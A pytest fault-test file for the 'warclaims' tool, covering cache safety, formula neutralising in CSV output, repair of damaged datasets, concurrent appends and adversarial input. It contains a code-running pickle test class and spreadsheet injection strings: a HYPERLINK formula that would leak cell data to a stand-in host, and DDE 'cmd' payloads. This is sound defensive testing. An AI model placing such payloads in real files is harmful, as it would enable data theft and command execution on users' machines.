"""Fault tests: what a hostile or unlucky user does to warclaims, and what it must do then.

Each test is one class of fault from issue 12 (code planted in the cache, formulas in CSV
output, a damaged cached dataset, concurrent appends, errors that used to be tracebacks,
adversarial extractor input). Select them with ``pytest -m faults``; they run by default.
"""
from __future__ import annotations

import json
import os
import pickle
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest

import warclaims.remembered as remembered
from warclaims import datasets
from warclaims.errors import DatasetDamagedError, DatasetError
from warclaims.ledger import read_ledger

pytestmark = pytest.mark.faults

GS = "general-staff-losses"
PERSONNEL = "data/russia_losses_personnel.json"


# --- 1. Nothing that can run code is read from the cache -----------------------------------


class _Planted:
    """A pickle that, when loaded, creates a file: what a hostile user would plant."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def _remembered_csv(tmp_path: Path, text: str):
    """A remembered loader of one CSV file, and the list its every real read appends to."""
    source = tmp_path / "figures.csv"
    source.write_text(text)
    calls = []

    @remembered.while_unchanged(lambda: [source])
    def load():
        calls.append(1)
        return pd.read_csv(source)

    return load, calls


def test_a_pickle_planted_in_the_cache_is_never_loaded(tmp_path, isolated_cache):
    load, calls = _remembered_csv(tmp_path, "claimant,quantity\nGeneral Staff,52650\n")
    load()
    stored = [p for p in (isolated_cache / remembered.FOLDER).rglob("*") if p.is_file()]
    assert stored, "the result was not stored on disk"
    marker = tmp_path / "code-ran"
    for path in stored:  # another local user overwrites every stored file with a payload
        path.write_bytes(pickle.dumps(_Planted(marker)))
    load.forget()
    assert load().loc[0, "quantity"] == 52650
    assert not marker.exists(), "a pickle from the cache was loaded: it ran code"
    assert len(calls) == 2  # the file was read again instead


def test_remembered_results_are_stored_as_parquet_and_json_only(ledger_copy, isolated_cache):
    read_ledger(ledger_copy)
    files = [p for p in (isolated_cache / remembered.FOLDER).rglob("*") if p.is_file()]
    assert {p.suffix for p in files} == {".parquet", ".json"}
    for p in files:
        head = p.read_bytes()[:4]
        assert head == b"PAR1" if p.suffix == ".parquet" else head.startswith(b"{")


def test_cache_folders_are_owner_only_whatever_the_umask(tmp_path, isolated_cache, fixture_registry):
    old = os.umask(0)
    try:
        source = tmp_path / "figures.csv"
        source.write_text("a\n1\n")
        remembered.while_unchanged(lambda: [source])(lambda: pd.read_csv(source))()
        datasets.fetch(GS, mirror=fixture_registry)
    finally:
        os.umask(old)
    for folder in (isolated_cache / remembered.FOLDER, datasets.dataset_dir(GS), datasets.dataset_dir(GS) / "data"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


def test_a_remembered_folder_others_can_write_is_not_read(tmp_path, isolated_cache):
    load, calls = _remembered_csv(tmp_path, "a\n1\n")
    load()
    os.chmod(isolated_cache / remembered.FOLDER, 0o777)
    load.forget()
    load()
    assert len(calls) == 2


def test_what_loaders_return_survives_the_disk_unchanged(ledger_copy, tmp_path, isolated_cache):
    # The ledger (a dataclass of frames and a path) and a frame with everything notebooks
    # rely on: categoricals with unused categories, dates with gaps, nullable strings,
    # a non-default index and attrs ("missing", "notes").
    frame = pd.DataFrame(
        {
            "metric": pd.Categorical(["territory_gained", None], categories=["territory_gained", "territory_lost"]),
            "date": pd.to_datetime(["2022-09-11", None]),
            "claimant": pd.array(["General Staff", None], dtype="string"),
            "quantity": [52650.0, float("nan")],
            "cumulative": [True, False],
        },
        index=[3, 7],
    )
    frame.attrs = {"missing": ["dataset 'x' is not in the cache"], "notes": "history absent"}
    source = tmp_path / "x.csv"
    source.write_text("x\n")
    calls = []

    @remembered.while_unchanged(lambda: [source])
    def load():
        calls.append(1)
        return {"frame": frame, "ledger": read_ledger(ledger_copy), "span": (1, "a"), "areas": {"k": 1.5}}

    first = load()
    load.forget()
    second = load()
    assert len(calls) == 1  # read from disk, not recomputed
    got = second["frame"]
    pd.testing.assert_frame_equal(got, frame, check_exact=True)
    assert got.attrs == frame.attrs
    assert list(got["metric"].cat.categories) == ["territory_gained", "territory_lost"]
    assert second["span"] == (1, "a") and second["areas"] == {"k": 1.5}
    assert type(second["ledger"]) is type(first["ledger"]) and second["ledger"].folder == first["ledger"].folder
    for table in ("claims", "sources", "claimants", "places"):
        pd.testing.assert_frame_equal(getattr(second["ledger"], table), getattr(first["ledger"], table), check_exact=True)


# --- 3. A damaged cached dataset is named, not used, and repaired --------------------------


def test_a_cached_file_cut_short_is_named_and_repaired_by_fetch(fixture_data, capsys):
    from warclaims.cli import main
    from warclaims.evidence.general_staff import load_general_staff

    good = load_general_staff()
    path = datasets.dataset_file(GS, PERSONNEL)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2].rsplit(b"},", 1)[0] + b"}]")  # still valid JSON, fewer days
    load_general_staff.forget()
    with pytest.raises(DatasetDamagedError) as e:
        load_general_staff()
    assert str(path) in str(e.value) and f"warclaims fetch {GS}" in str(e.value)
    assert not datasets.is_cached(GS)
    assert main(["datasets"]) == 0
    out = capsys.readouterr().out
    assert f"damaged: {GS}: {path}" in out
    datasets.fetch(GS, mirror=fixture_data)  # the repair
    assert path.read_bytes() == data
    pd.testing.assert_frame_equal(load_general_staff(), good)


def test_run_fetch_refetches_a_damaged_dataset(fixture_data, monkeypatch):
    from warclaims import cli

    path = datasets.dataset_file(GS, PERSONNEL)
    data = path.read_bytes()
    path.write_bytes(data.replace(b"1", b"7", 1))  # same size, different figures
    monkeypatch.setenv("WARCLAIMS_MIRROR", str(fixture_data))
    cli._fetch_missing()
    assert path.read_bytes() == data and datasets.is_cached(GS)


def test_an_edit_that_keeps_size_is_caught_once_the_time_changes(fixture_data):
    path = datasets.dataset_file(GS, PERSONNEL)
    data = bytearray(path.read_bytes())
    data[data.index(b"5")] = ord(b"6")
    path.write_bytes(bytes(data))
    with pytest.raises(DatasetDamagedError):
        datasets.dataset_file(GS, PERSONNEL)


def test_staging_left_by_a_killed_fetch_is_removed(fixture_data):
    leftover = datasets.dataset_dir(GS).parent / f".{GS}.x1y2z3"
    leftover.mkdir()
    (leftover / "half-downloaded.json").write_text("[{")
    datasets.fetch(GS, mirror=fixture_data)
    assert not leftover.exists()


def test_a_truncated_provenance_record_is_named_and_repaired(fixture_data, capsys):
    from warclaims.cli import main

    record = datasets.dataset_dir(GS) / datasets.PROVENANCE
    record.write_text(record.read_text()[:40])
    with pytest.raises(DatasetDamagedError) as e:
        datasets.dataset_file(GS, PERSONNEL)
    assert str(record) in str(e.value) and "warclaims fetch" in str(e.value)
    assert main(["datasets"]) == 0  # lists it as damaged instead of a traceback
    assert f"damaged: {GS}" in capsys.readouterr().out
    datasets.fetch(GS, mirror=fixture_data)
    assert datasets.is_cached(GS)


def test_provenance_is_written_atomically(fixture_data, monkeypatch):
    # A crash while writing the record (here: the disk fills) leaves the old record whole.
    record = datasets.dataset_dir(GS) / datasets.PROVENANCE
    before = record.read_text()
    import warclaims.files as files

    real = os.fsync

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", full)
    with pytest.raises(DatasetError):
        datasets.record_as_of(GS, "2022-03-01")
    monkeypatch.setattr(files.os, "fsync", real)
    assert record.read_text() == before


# --- 4. Two appends into one ledger lose nothing --------------------------------------------

APPENDER = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from warclaims.columns import CLAIM_COLUMNS
    from warclaims.ledger import append_claims, read_ledger
    from warclaims.tables import read_table

    folder, tag, go = Path(sys.argv[1]), int(sys.argv[2]), Path(sys.argv[3])
    rows, _ = read_table(folder / "claims.csv", CLAIM_COLUMNS)
    read_ledger(folder)  # imports and first read done before the start signal
    while not go.exists():
        time.sleep(0.002)
    for i in range(3):
        new = rows.iloc[[0]].copy()
        new["claim_id"] = ""
        new["quantity"] = new["quantity_raw"] = str(1000 * tag + i)
        append_claims(new, folder)
    """
)


def test_two_processes_appending_to_one_ledger_lose_nothing(ledger_copy, tmp_path):
    go = tmp_path / "go"
    before = len(read_ledger(ledger_copy).claims)
    procs = [
        subprocess.Popen([sys.executable, "-c", APPENDER, str(ledger_copy), str(tag), str(go)], stderr=subprocess.PIPE, text=True)
        for tag in (1, 2)
    ]
    import time

    time.sleep(3)  # both have read the ledger and wait
    go.touch()
    for p in procs:
        _, err = p.communicate(timeout=240)
        assert p.returncode == 0, err
    quantities = set(read_ledger(ledger_copy).claims["quantity"])
    assert {"1000", "1001", "1002", "2000", "2001", "2002"} <= quantities
    assert len(read_ledger(ledger_copy).claims) == before + 6


# --- 2. CSV written for spreadsheets never carries a live formula ---------------------------

SPREADSHEET_CELLS = [
    # (cell, what a spreadsheet must be given)
    ('=HYPERLINK("http://x.test/?"&A1,"click")', '\'=HYPERLINK("http://x.test/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("-12", "-12"),  # plain numbers stay numbers
    ("+3.5", "+3.5"),
    ("-1,158", "-1,158"),
    ("General Staff", "General Staff"),
    ("about 150 soldiers", "about 150 soldiers"),
]


@pytest.mark.parametrize("cell, shown", SPREADSHEET_CELLS)
def test_spreadsheet_cells_are_neutralised(cell, shown):
    from warclaims.tables import spreadsheet_safe

    assert spreadsheet_safe(cell) == shown


def test_extract_csv_output_neutralises_formulas(tmp_path):
    import csv

    from warclaims.cli import main

    candidates = tmp_path / "candidates.jsonl"
    record = {"metric": "personnel_losses", "claimant": "@SUM(1+1)", "quantity": "-150",
              "evidence": '=HYPERLINK("http://x.test","150 killed")', "place_raw": "+Kupiansk", "quantity_raw": "150"}
    candidates.write_text(json.dumps(record) + "\n")
    out = tmp_path / "candidates.csv"
    assert main(["extract", str(candidates), "--format", "csv", "--out", str(out)]) == 0
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["claimant"] == "'@SUM(1+1)"
    assert row["evidence"] == '\'=HYPERLINK("http://x.test","150 killed")'
    assert row["place_raw"] == "'+Kupiansk"
    assert row["quantity"] == "-150"  # a number, shown as one


def test_spreadsheet_csv_writes_frames_for_exports():
    from warclaims.tables import spreadsheet_csv

    frame = pd.DataFrame({"claimant": ["=1+1", "Oryx"], "quantity": [-3, 5]})
    assert spreadsheet_csv(frame).splitlines() == ["claimant,quantity", "'=1+1,-3", "Oryx,5"]


# --- 9. Named problems, not tracebacks -------------------------------------------------------


def _fails_naming(capsys, argv: list[str], *names: str) -> str:
    from warclaims.cli import main

    assert main(argv) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    for name in names:
        assert name in err, err
    return err


def test_claims_csv_that_is_a_folder_is_named(ledger_copy, capsys):
    claims = ledger_copy / "claims.csv"
    claims.unlink()
    claims.mkdir()
    err = _fails_naming(capsys, ["validate", str(ledger_copy)], str(claims))
    assert "not a folder" in err


def test_an_extract_out_that_cannot_be_made_is_named(tmp_path, capsys):
    candidates = tmp_path / "c.jsonl"
    candidates.write_text(json.dumps({"metric": "personnel_losses", "claimant": "x"}) + "\n")
    out = tmp_path / "no-such-folder" / "out.csv"
    _fails_naming(capsys, ["extract", str(candidates), "--format", "csv", "--out", str(out)], str(out), "--out")


def test_a_run_out_that_cannot_be_made_is_named(tmp_path, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    _fails_naming(capsys, ["run", "01_territory", "--out", str(blocker / "report")], str(blocker))


def test_fetch_into_a_cache_that_cannot_be_written_is_named(fixture_registry, tmp_path, monkeypatch, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    monkeypatch.setenv("WARCLAIMS_CACHE", str(blocker / "cache"))
    err = _fails_naming(capsys, ["fetch", GS, "--from", str(fixture_registry)], str(blocker), "WARCLAIMS_CACHE")
    assert GS in err


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root writes into read-only folders")
def test_fetch_into_a_read_only_cache_is_named(fixture_registry, isolated_cache, capsys):
    os.chmod(isolated_cache, 0o500)
    try:
        _fails_naming(capsys, ["fetch", GS, "--from", str(fixture_registry)], str(isolated_cache), "writable")
    finally:
        os.chmod(isolated_cache, 0o700)


def test_a_truncated_provenance_record_is_named_by_every_command(fixture_data, capsys, ledger_copy):
    from warclaims.cli import main

    record = datasets.dataset_dir(GS) / datasets.PROVENANCE
    record.write_text(record.read_text()[:25])
    assert main(["datasets"]) == 0
    assert str(record) in capsys.readouterr().out
    with pytest.raises(DatasetDamagedError):
        datasets.dataset_files(GS)


def test_candidates_that_are_not_utf8_are_named(tmp_path, capsys):
    bad = tmp_path / "bad.jsonl"
    bad.write_bytes(b"\xff\xfe{}\n")
    _fails_naming(capsys, ["extract", str(bad)], str(bad), "UTF-8")


def test_an_unreadable_lock_file_is_named(fixture_registry, capsys):
    datasets.LOCK_FILE.write_text('{"general-staff-losses": {"commit"')
    _fails_naming(capsys, ["datasets"], str(datasets.LOCK_FILE), "git checkout")


# --- 10. Adversarial extractor input ----------------------------------------------------------


@pytest.mark.parametrize("text", [
    "The General Staff said Russia lost 1.7976931348623157e+309 vehicles.",
    "The General Staff said Russia lost 1.5e3 tanks.",
    "The General Staff said Russia lost 2E5 soldiers.",
    "The General Staff said Russia lost 7.2e-4 tanks.",
])
def test_scientific_notation_is_never_read_as_part_of_itself(text):
    from warclaims.extract import extract_claims

    got = [c.row["quantity"] for c in extract_claims(text, published="2023-01-01")]
    assert got == [], got  # refused: neither the mantissa nor the exponent is the figure


def test_plain_figures_beside_scientific_notation_are_still_read():
    from warclaims.extract import extract_claims

    got = [c.row["quantity"] for c in extract_claims(
        "The General Staff said Russia lost 2e5 tanks. The General Staff said Russia lost 300 tanks.", published="2023-01-01")]
    assert got == ["300"]


@pytest.mark.parametrize("depth", [300, 1000, 20000])
def test_deeply_nested_html_falls_back_to_its_text(tmp_path, depth):
    from warclaims.extract import extract_file

    body = "<p>The General Staff said Russia lost 300 tanks near Bakhmut over the past week.</p><script>var s = '5 tanks';</script>"
    page = tmp_path / "deep.html"
    page.write_text(f"<html><head><title>t</title></head><body>{'<div>' * depth}{body}{'</div>' * depth}</body></html>")
    got = [(c.row["quantity"], c.row["metric"]) for c in extract_file(page, published="2023-01-01")]
    assert got == [("300", "equipment_losses")]


def test_long_sentences_are_cut_between_words_never_inside_a_number():
    from warclaims.extract.text import MAX_SENTENCE, Span, sentences

    text = " ".join(f"lost 1,{n:03d} soldiers" for n in range(2000))
    spans = sentences(Span(text, 0))
    assert all(len(s.text) <= MAX_SENTENCE for s in spans)
    assert "".join(s.text for s in spans) == text  # nothing lost, offsets continuous
    assert all(text[s.start:s.end] == s.text for s in spans)
    assert all(s.text.startswith("lost 1,") or s.text.startswith(("1,", "soldiers")) for s in spans)
    assert all(not s.text.rstrip().endswith("1,") for s in spans)


def _python_calls(text: str) -> int:
    """Python function calls made extracting ``text``: a measure of work that does not
    depend on how busy the machine is (timings live in bench/adversarial.py)."""
    from warclaims.extract import extract_claims

    extract_claims("Russia lost 5 tanks, the General Staff said.", published="2023-01-01")  # warm
    calls = 0

    def count(frame, event, arg):
        nonlocal calls
        if event in ("call", "c_call"):  # Python functions and generator steps, and C calls (regexes)
            calls += 1

    sys.setprofile(count)
    try:
        extract_claims(text, published="2023-01-01")
    finally:
        sys.setprofile(None)
    return calls


PROSE = ("Russian forces lost 1,200 soldiers and 14 tanks near Bakhmut over the past day, the General Staff said on Monday. "
         "Officials in Kyiv said the counteroffensive had freed 500 square kilometres of territory.\n")


def _numeric(size: int) -> str:
    return " ".join(f"lost {n % 997 + 1} soldiers" for n in range(size // 16))[:size]


def test_unpunctuated_numeric_text_costs_no_more_than_a_few_times_prose():
    size = 20_000
    prose = _python_calls((PROSE * (size // len(PROSE) + 1))[:size])
    numeric = _python_calls(_numeric(size))
    assert numeric <= 4 * prose, (numeric, prose)


def test_the_cost_of_numeric_text_grows_with_its_length_not_its_square():
    small, large = _python_calls(_numeric(10_000)), _python_calls(_numeric(40_000))
    assert large <= 5 * small, (small, large)


# --- 3 (continued): what a notebook does with a damaged dataset --------------------------------


def test_a_notebook_names_a_damaged_dataset_instead_of_drawing_it(fixture_data):
    from warclaims.evidence.general_staff import load_general_staff
    from warclaims.views.common import try_load

    path = datasets.dataset_file(GS, PERSONNEL)
    path.write_bytes(path.read_bytes()[:-40])
    load_general_staff.forget()
    missing: list[str] = []
    assert try_load(load_general_staff, GS, missing) is None
    assert str(path) in missing[0] and f"warclaims fetch {GS}" in missing[0]


def test_every_result_the_kernel_server_preloads_is_stored_as_data(fixture_data, isolated_cache, monkeypatch):
    # Nothing the notebooks read falls back to memory only (which would silently cost every
    # later process the full read): each loader's result has a data-only form on disk.
    from warclaims.views.common import preload

    refused, real = [], remembered._serialise

    def spy(value):
        files = real(value)
        if files is None:
            refused.append(type(value).__name__)
        return files

    monkeypatch.setattr(remembered, "_serialise", spy)
    # Results an earlier test left in this process's memory would be answered from there
    # and never reach the disk: start from none.
    from warclaims.evidence import oryx, territory
    from warclaims.ledger import _read_folder

    for loader in (_read_folder, oryx.load_oryx_daily, territory.load_area_series):
        loader.forget()
    preload()
    assert refused == []
    stored = {p.name.rsplit("-", 2)[0] for p in (isolated_cache / remembered.FOLDER).iterdir() if p.is_dir()}
    assert {"warclaims.ledger._read_folder", "warclaims.evidence.oryx.load_oryx_daily",
            "warclaims.evidence.territory.load_area_series"} <= stored, stored


@pytest.mark.faults
def test_report_chart_and_table_csvs_neutralise_formulas():
    # The CSVs a report offers beside each chart and table are opened in spreadsheets too.
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from warclaims import charts, display, report

    frame = pd.DataFrame({"claimant": ["=HYPERLINK(\"http://x\")", "Oryx"], "quantity": [1, 2]})
    import csv
    import io

    def first_cells(text):
        return [row[0] for row in csv.reader(io.StringIO(text))][1:]

    assert first_cells(report.table_csv(frame)) == ["'=HYPERLINK(\"http://x\")", "Oryx"]
    fig, ax = plt.subplots()
    ax.bar([0, 1], [1, 2])
    charts.finalise(fig, "t", "s", ["test source"], "2022-09-11", data=frame, alt="two bars")
    bundle, _ = display.figure_bundle(fig)
    assert first_cells(bundle[report.CHART_MIME]["csv"])[0].startswith("'=HYPERLINK")
